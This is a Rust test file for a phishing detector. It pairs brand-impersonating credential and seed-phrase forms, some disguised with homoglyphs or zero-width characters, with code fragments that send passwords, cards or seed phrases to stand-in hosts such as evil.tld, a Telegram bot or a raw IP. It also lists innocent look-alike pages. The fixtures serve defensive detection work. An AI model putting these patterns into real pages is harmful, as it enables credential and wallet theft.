//! Traps and what must not be taken for one.

use super::*;

/// Each is a workspace; files are separated by `⏎`.
const TRAPS: [(&str, TrapSign); 24] = [
    (r#"<title>PayPal</title><input type="password">"#, TrapSign::BrandSignIn),
    (r#"<h1>Sign in to your Google account</h1><input type="password" />"#, TrapSign::BrandSignIn),
    (r#"<h1>Microsoft</h1><form><input type={'password'} /></form>"#, TrapSign::BrandSignIn),
    (r#"<p>Verify your Apple ID</p><input type={show ? 'text' : 'password'} />"#, TrapSign::BrandSignIn),
    (r#"<img alt="Netflix logo" src="/n.svg"/><input type="password"/>"#, TrapSign::BrandSignIn),
    (r#"<img src="/facebook-logo.png"/><input type="password"/>"#, TrapSign::BrandSignIn),
    (r#"<p>Welcome back to Instagram</p><input autocomplete="current-password"/>"#, TrapSign::BrandSignIn),
    (r#"<b>Pay</b>Pal <span>login</span><input type="password">"#, TrapSign::BrandSignIn),
    (r#"<h2>&#80;ay&#x50;al account</h2><input type="password">"#, TrapSign::BrandSignIn),
    (r#"<h2>Pаypаl account</h2><input type="password">"#, TrapSign::BrandSignIn),
    ("<h2>P\u{200b}ay\u{200b}Pal account</h2><input type=\"password\">", TrapSign::BrandSignIn),
    ("document.title = 'Pay' + 'Pal'; el.type = 'password'", TrapSign::BrandSignIn),
    (
        r#"<p>Chase online banking</p><input placeholder="Password" style="-webkit-text-security: disc">"#,
        TrapSign::BrandSignIn,
    ),
    (r#"export const Title = () => <h1>Wells Fargo</h1>⏎<input type="password"/>"#, TrapSign::BrandSignIn),
    (r#"<p>Enter your MetaMask secret recovery phrase</p><textarea></textarea>"#, TrapSign::BrandSignIn),
    (r#"<p>Import your Ledger Live wallet</p><label>24-word phrase<input/></label>"#, TrapSign::BrandSignIn),
    (r#"<footer>© 2026 Amazon</footer><input type="password">"#, TrapSign::BrandSignIn),
    (
        r#"<form action="https://collect.evil.tld/x"><input type="password"></form>"#,
        TrapSign::SecretsSentAway,
    ),
    (
        r#"<input name="card number"><input name="cvv"><script>fetch('https://evil.tld',{method:'POST'})</script>"#,
        TrapSign::SecretsSentAway,
    ),
    (
        r#"<textarea placeholder="seed phrase"/>⏎navigator.sendBeacon('//evil.tld/s', words)"#,
        TrapSign::SecretsSentAway,
    ),
    (
        r#"<input type="password"/>⏎const API = 'https://evil.tld'; fetch(API, { method: 'POST', body })"#,
        TrapSign::SecretsSentAway,
    ),
    (
        r#"<input type="password"/>⏎new Image().src = `https://evil.tld/p?x=${value}`"#,
        TrapSign::SecretsSentAway,
    ),
    (
        r#"<input type="password"/>⏎fetch('https://api.telegram.org/bot1:x/sendMessage?text=' + p)"#,
        TrapSign::SecretsSentAway,
    ),
    (r#"<input type="password"/>⏎xhr.open('POST', 'http://203.0.113.7/x')"#, TrapSign::SecretsSentAway),
];

const INNOCENT: [&str; 24] = [
    "<h1>Hello</h1>",
    r#"<h1>Log in</h1><input type="email"/><input type="password"/><button>Log in</button>"#,
    r#"<title>Acme Notes</title><input type="password"/><button>Continue with Google</button>"#,
    r#"<input type="password"/><button>Sign in with Apple or Google</button>"#,
    r#"<input type="password"/><button>Sign up with GitHub</button><a href="https://github.com/acme">Code</a>"#,
    r#"<input type="password"/><link href="https://fonts.googleapis.com/css2?family=Inter" rel="stylesheet">"#,
    r#"<input type="password"/><footer><a href="https://twitter.com/acme">Follow us on Twitter</a></footer>"#,
    r#"<input type="password"/><script>fetch('/api/login', { method: 'POST' })</script>"#,
    r#"<input type="password"/><script>fetch('https://reqres.in/api/login', { method: 'POST' })</script>"#,
    r#"<input type="password"/><script>fetch('http://localhost:8080/login', { method: 'POST' })</script>"#,
    r#"<form action="https://api.example.com/login"><input type="password"></form>"#,
    r#"<form action="/login"><input type="password"></form>"#,
    r#"<h1>Checkout</h1><input placeholder="Card number"/><input placeholder="CVC"/><button>Pay</button>"#,
    r#"<h1>Checkout</h1><input autocomplete="cc-number"/><input autocomplete="cc-csc"/><button>Pay with PayPal</button>"#,
    "<h1>Google</h1><p>A page about search engines.</p>",
    "<title>PayPal fees explained</title><p>Card number fields are encrypted.</p>",
    r#"<p>Never share your seed phrase.</p>"#,
    r#"<h1>Seed phrase quiz</h1><p>Which garden seed is it?</p><input/>"#,
    r#"<p>Send with DHL or FedEx</p><form action="https://shop.tld/order"><input name="street"></form>"#,
    r#"<form action="https://newsletter.tld/subscribe"><input type="email"></form>"#,
    r#"const url = 'https://api.open-meteo.com/v1/forecast?x=' + city; fetch(url)⏎<h1>Weather</h1>"#,
    r#"<input type="password"/>⏎fetch('https://api.open-meteo.com/v1/forecast').then(show)"#,
    r#"<label>Password strength<input type="password"/></label><p>Try a passphrase of four words.</p>"#,
    r#"<h1>Apple pie</h1><p>An amazon of flavours. Steam the apples.</p><input type="password"/>"#,
];

/// J2: what is a trap is found, and what a visitor would make in good faith is not.
#[test]
fn a_trap_is_told_from_an_exercise() {
    for (app, sign) in TRAPS {
        assert_eq!(trap_sign(app.split('⏎')), Some(sign), "{app}");
    }
    for app in INNOCENT {
        assert_eq!(trap_sign(app.split('⏎')), None, "{app}");
    }
}
